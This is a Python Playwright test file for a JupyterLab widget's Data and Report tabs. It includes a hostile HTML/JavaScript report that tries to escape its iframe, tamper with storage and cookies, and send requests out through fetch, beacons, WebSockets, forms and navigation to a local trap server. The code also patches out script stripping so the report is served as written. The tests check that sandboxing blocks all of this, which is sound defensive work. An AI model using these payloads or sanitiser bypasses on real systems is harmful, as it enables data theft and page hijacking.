"""The Data and Report tabs in a real JupyterLab. A hostile report reaches nothing outside of its frame."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Error, Locator, Page, expect

from tests.jupyter_lab import JupyterLab, Notebook
from tests.run_helpers import eventually
from tests.server_process import ServerProcess
from tests.widget_in_page import cell_for

Open = Callable[..., Notebook]
LOOK_MS = 5_000


def open_tab(open_notebook: Open, server: ServerProcess, task: str, tab: str, **simulation: object) -> Locator:
    notebook = open_notebook(cell_for(server.simulate(**simulation), server))
    notebook.run_all()
    widget = notebook.widgets.first
    widget.get_by_role("row", name=re.compile(f"^{task}, ")).click()
    widget.get_by_role("tab", name=tab).click()
    return widget


def test_values_unfold_by_keyboard_and_go_to_a_new_cell(open_notebook: Open, shared_server: ServerProcess) -> None:
    widget = open_tab(open_notebook, shared_server, "pipeline", "Data", seed=7, elapsed_s=1e9)
    tree = widget.get_by_role("tree", name="Inputs")
    config = tree.get_by_role("treeitem", name=re.compile("^config, "))
    config.focus()
    keys = widget.page.keyboard
    keys.press("ArrowRight")
    expect(tree.get_by_role("treeitem", name=re.compile("^layers, 12"))).to_be_visible()
    keys.press("ArrowRight")
    expect(tree.get_by_role("treeitem", name=re.compile("^layers, "))).to_be_focused()
    keys.press("ArrowLeft")
    keys.press("ArrowLeft")
    expect(config).to_have_attribute("aria-expanded", "false")
    outputs = widget.get_by_role("tree", name="Outputs")
    scores = outputs.get_by_role("treeitem", name=re.compile("^o0, "))
    scores.hover()
    scores.get_by_role("button", name=re.compile("^Python for this value")).click()
    cells = widget.page.locator(".jp-Notebook .jp-CodeCell")
    expect(cells).to_have_count(2)
    expect(cells.nth(1)).to_contain_text("o0 = w.run.actions[\"a0\"].outputs()['o0']")


def test_a_list_comes_in_pieces(open_notebook: Open, shared_server: ServerProcess) -> None:
    widget = open_tab(open_notebook, shared_server, "pipeline", "Data", seed=7, elapsed_s=1e9)
    outputs = widget.get_by_role("tree", name="Outputs")
    outputs.get_by_role("treeitem", name=re.compile("^o1, ")).click()
    squares = outputs.get_by_role("group").locator(".fw-value-item")
    expect(squares).to_have_count(50)
    outputs.get_by_role("button", name="70 more").click()
    expect(squares).to_have_count(100)
    outputs.get_by_role("button", name="20 more").click()
    expect(squares).to_have_count(120)


def holds(look: Callable[[], object]) -> bool:
    """Look into a live report. It is replaced when it is another one, and in a frame that goes Playwright gives up."""
    try:
        return bool(look())
    except Error:
        return False


def test_a_report_is_live_and_its_tabs_work(open_notebook: Open, shared_server: ServerProcess) -> None:
    # Minutes long, so that it goes on however slow the page is.
    lasting = {"seed": 7, "actions": 1, "task_s": 200, "elapsed_s": 60}
    widget = open_tab(open_notebook, shared_server, "pipeline", "Report", **lasting)
    report = widget.frame_locator("iframe").frame_locator("iframe")
    steps: set[str] = set()

    def told_two_steps() -> bool:
        heading = report.get_by_role("heading").inner_text(timeout=LOOK_MS)
        assert re.fullmatch(r"pipeline, step \d+ of 20", heading)
        steps.add(heading)
        return len(steps) > 1

    widget.page.mouse.move(5, 5)  # a report that is pointed at stays
    eventually(lambda: holds(told_two_steps))

    def shows_examples() -> bool:
        report.get_by_role("button", name="Examples").click(timeout=LOOK_MS)
        return report.get_by_role("table").is_visible()

    eventually(lambda: holds(shows_examples))


class _Trap(BaseHTTPRequestHandler):
    """Takes note of whoever calls."""

    def do_GET(self) -> None:
        self.server.caught.append(self.path)  # type: ignore[attr-defined]
        self.send_response(204)
        self.end_headers()

    def do_POST(self) -> None:
        self.do_GET()

    def log_message(self, *_: object) -> None:
        return


@pytest.fixture
def trap() -> Iterator[ThreadingHTTPServer]:
    """A server that a hostile report tries to reach."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Trap)
    server.caught = []  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


HOSTILE = """
<p>hostile</p><a href="http://127.0.0.1:%d/link" target=_self>a link</a>
<meta http-equiv=refresh content="1;url=http://127.0.0.1:%d/refresh">
<link rel=stylesheet href="http://127.0.0.1:%d/style"><img src="http://127.0.0.1:%d/picture" onerror="x()">
<script>
const tried = {};
const attempt = (name, act) => { try { act(); tried[name] = "done"; } catch (error) { tried[name] = "refused"; } };
attempt("parent", () => { parent.document.title = "taken"; });
attempt("top", () => { top.document.title = "taken"; });
attempt("storage", () => localStorage.setItem("fw-taken", "1"));
attempt("cookie", () => { document.cookie = "fw-taken=1"; });
const url = "http://127.0.0.1:%d/";
try { fetch(url + "fetch").catch(() => {}); } catch {}
try { navigator.sendBeacon(url + "beacon", "x"); } catch {}
try { new Image().src = url + "image"; } catch {}
try { new WebSocket(url.replace("http", "ws") + "socket"); } catch {}
const frame = document.createElement("iframe"); frame.src = url + "frame"; document.documentElement.append(frame);
const form = document.createElement("form"); form.action = url + "form"; document.documentElement.append(form);
try { form.submit(); } catch {}
try { open(url + "popup"); } catch {}
attempt("top navigation", () => { top.location = url + "top"; });
console.log("hostile: " + JSON.stringify(tried));
setTimeout(() => { location = url + "self"; }, 300);
</script>
"""


def hostile_to(trap: ThreadingHTTPServer) -> str:
    """Python for the kernel: the report of every action is a hostile one, as it comes and as it is kept."""
    html = HOSTILE.replace("%d", str(trap.server_port))
    return f"""
import flyte_widgets.widgets.data_requests as live
import flyte_widgets.widgets.static_view.reports as kept
async def hostile(*_, **__): return {html.encode()!r}
live.read_report = hostile
kept.read_report = hostile
kept.without_scripts = str
"""


def assert_nothing_was_reached(page: Page, trap: ThreadingHTTPServer) -> None:
    page.wait_for_timeout(2_000)  # what a report may try, it has tried by then: nothing is to be waited for
    assert trap.caught == []  # type: ignore[attr-defined]
    assert page.title() != "taken"
    assert page.evaluate("localStorage.getItem('fw-taken')") is None
    assert "fw-taken" not in page.evaluate("document.cookie")


def test_a_hostile_report_reaches_nothing(
    open_notebook: Open, shared_server: ServerProcess, trap: ThreadingHTTPServer
) -> None:
    """Neither page, storage and cookies, nor the network, nor another address, be it in its own frame."""
    name = shared_server.simulate(seed=7, elapsed_s=1e9)
    notebook = open_notebook(hostile_to(trap), cell_for(name, shared_server))
    notebook.run_all()
    widget = notebook.widgets.first
    widget.get_by_role("row", name=re.compile("^train_model, ")).click()
    # What it shows is gone as soon as it leaves its own frame, so the console says that it ran.
    with widget.page.expect_console_message(lambda message: message.text.startswith("hostile: ")) as ran:
        widget.get_by_role("tab", name="Report").click()
    assert set(json.loads(ran.value.text.removeprefix("hostile: ")).values()) == {"refused"}
    assert_nothing_was_reached(widget.page, trap)


def test_a_kept_report_is_still_and_reaches_nothing(
    open_notebook: Open, shared_server: ServerProcess, lab: JupyterLab, page: Page, trap: ThreadingHTTPServer
) -> None:
    """After `freeze(reports=True)`, reopened without a kernel, trusted or not; even with its scripts left in."""
    name = shared_server.simulate(seed=7, elapsed_s=1e9)
    notebook = open_notebook(hostile_to(trap), cell_for(name, shared_server), "w.wait(60)", "w.freeze(reports=True)")
    notebook.run_all()
    expect(page.locator("details").first).to_be_visible()
    content = notebook.saved()
    for kind in ("trusted", "untrusted"):
        if kind == "untrusted":  # nobody has ever run this content
            content["cells"][1]["source"] = "# edited elsewhere"
        (lab.root / f"reports-{kind}.ipynb").write_text(json.dumps(content))
        Notebook(page, lab, f"reports-{kind}")
        reports = page.locator(".jp-RenderedHTML details").filter(has_text="Report of train_model")
        expect(reports).to_be_visible()
        if kind == "untrusted":  # JupyterLab's sanitiser knows no frames, and drops them
            expect(page.locator("iframe[srcdoc]")).to_have_count(0)
            continue
        reports.locator("summary").click()
        report = reports.frame_locator("iframe").frame_locator("iframe")
        expect(report.get_by_text("hostile")).to_be_visible()
        assert_nothing_was_reached(page, trap)
        expect(report.locator("body")).not_to_contain_text("refused")  # what its script writes
        report.get_by_role("link").click()
    assert_nothing_was_reached(page, trap)
